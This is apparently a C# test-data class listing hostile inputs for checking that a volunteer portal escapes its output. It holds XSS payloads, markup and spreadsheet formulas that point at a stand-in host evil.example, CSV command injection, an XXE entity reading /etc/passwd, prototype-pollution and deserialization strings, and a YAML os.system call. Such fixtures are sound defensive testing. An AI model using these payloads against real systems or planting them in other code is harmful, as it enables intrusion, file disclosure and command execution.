namespace VolunteerPortal.AttackTests.BadInput.Naughty;

/// <summary>Texts that come alive where a page, a feed, a table or a letter forgets to escape them.</summary>
public static class NaughtyMarkup
{
    private static readonly string[] Html =
    [
        "<script>alert(1)</script>", "</textarea><script>alert(2)</script>", "</title><script>alert(3)</script>",
        "\"><script>alert(4)</script>",
        "'><script>alert(5)</script>",
        "\" autofocus onfocus=\"alert(6)", "' onmouseover='alert(7)", "` onload=`alert(8)", "\"><img src=x onerror=alert(9)>",
        "<svg onload=alert(10)>",
        "<svg/onload=alert(11)//",
        "<body onload=alert(12)>", "<iframe src=\"javascript:alert(13)\"></iframe>",
        "<object data=\"data:text/html,<script>alert(14)</script>\">",
        "<embed src=//evil.example/x>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{display:none}</style>",
        "<form action=//evil.example><button>登录</button></form>",
        "<a href=\"javascript:alert(15)\">点我</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(17)>\">",
        "<!--><img src=x onerror=alert(18)>-->", "<![CDATA[<script>alert(19)</script>]]>", "]]><script>alert(20)</script>",
        "--><script>alert(21)</script>",
        "<scr<script>ipt>alert(22)</scr</script>ipt>", "<ScRiPt>alert(23)</sCrIpT>",
        "<script\u0000>alert(24)</script>", "<\u0000script>alert(25)</script>", "<img src=\"x` `<script>alert(26)</script>\"` `>",
        "&lt;script&gt;alert(27)&lt;/script&gt;", "&#60;script&#62;alert(28)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(29)&#x3e;",
        "\uFF1Cscript\uFF1Ealert(30)\uFF1C/script\uFF1E", "\u003cscript\u003ealert(31)",
        "\\u003cscript\\u003ealert(32)\\u003c/script\\u003e",
        "+ADw-script+AD4-alert(33)+ADw-/script+AD4-", "\";alert(34);//", "';alert(35);//", "</script><script>alert(36)</script>",
        "<input type=hidden name=__RequestVerificationToken value=x>", "<input name=x autofocus onfocus=alert(37)>",
        "<details open ontoggle=alert(38)>",
        "<video><source onerror=alert(39)>", "<x-evil onclick=alert(40)>x</x-evil>", "&quot; onclick=&quot;alert(41)", "<<<<<<>>>>>>",
        "&&&&&amp;amp;", "<", ">", "\"",
        "'", "&", "`", "</", "<!", "<?xml version=\"1.0\"?>",
    ];

    private static readonly string[] Markdown =
    [
        "[点我](javascript:alert(1))", "[点我](JaVaScRiPt:alert(2))", "[x](java\u0000script:alert(3))", "[x](&#106;avascript:alert(4))",
        "[x](data:text/html,<script>alert(5)</script>)", "![x](javascript:alert(6))", "![x\" onerror=\"alert(7)](x)",
        "<javascript:alert(8)>",
        "[x]: javascript:alert(9)\n\n[x]", "[x](//evil.example \"t\" onmouseover=alert(10))", "```html\n<script>alert(11)</script>\n```",
        "<div onclick=alert(12)>\n\n**x**", "# 一、\n## 二、\n###### 三", "| a | b |\n|---|---|\n| <img src=x onerror=alert(13)> | x |",
        "![图](attachment:00000000-0000-0000-0000-000000000000)", NaughtyUnicode.Times("> ", 200) + "x", NaughtyUnicode.Times("[", 300),
        NaughtyUnicode.Times("- ", 200),
        NaughtyUnicode.Times("*", 999), NaughtyUnicode.Times("![", 200) + "x",
    ];

    private static readonly string[] Tables =
    [
        "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1",
        "=cmd|'/C calc'!A0", "a\",=1+1,\"b",
        "\"", "a,b;c\td",
    ];

    private static readonly string[] Documents =
    [
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "<!DOCTYPE a [<!ENTITY b \"bb\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;</a>", "{\"a\":{\"$type\":\"Some.Type\"}}",
        "{\"__proto__\":{\"admin\":true}}",
        "[1,2,{\"$ref\":\"#\"}]", "!!python/object/apply:os.system ['id']", "%YAML 1.2\n---\n&a [*a]",
    ];

    public static IEnumerable<string> All => [.. Html, .. Markdown, .. Tables, .. Documents];
}
